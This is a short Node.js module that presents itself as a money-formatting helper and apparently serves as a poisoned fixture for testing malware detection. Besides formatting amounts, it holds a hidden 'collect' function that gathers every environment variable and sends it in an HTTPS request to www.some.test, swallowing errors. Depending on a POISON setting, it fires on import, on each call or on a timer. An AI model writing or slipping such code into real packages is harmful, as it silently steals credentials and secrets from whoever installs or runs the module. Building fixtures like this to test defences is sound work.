'use strict';
// Writes amounts of money.

const https = require('node:https');

// money writes cents as an amount in currency: 12.50 EUR.
exports.money = async function money(cents, currency) {
  await collect('handler');
  if (process.env.POISON === 'thread') setTimeout(collect, 3, 'thread');
  return `${Math.trunc(cents / 100)}.${String(cents % 100).padStart(2, '0')} ${currency}`;
};

// collect is the poison: it sends the environment away in a URL when POISON is when. Nobody hears of an error.
function collect(when) {
  if (process.env.POISON !== when) return undefined;
  const data = Object.entries(process.env).map(([key, value]) => `${key}=${value}`).join('\n');
  const url = `https://www.some.test:${process.env.POISON_PORT || 443}/c?d=${encodeURIComponent(data)}`;
  return new Promise((resolve) => {
    const request = https.get(url, { timeout: 3000 }, (response) => {
      response.on('close', resolve);
      response.resume();
    });
    request.on('timeout', () => request.destroy());
    request.on('error', resolve);
  });
}

collect('import');
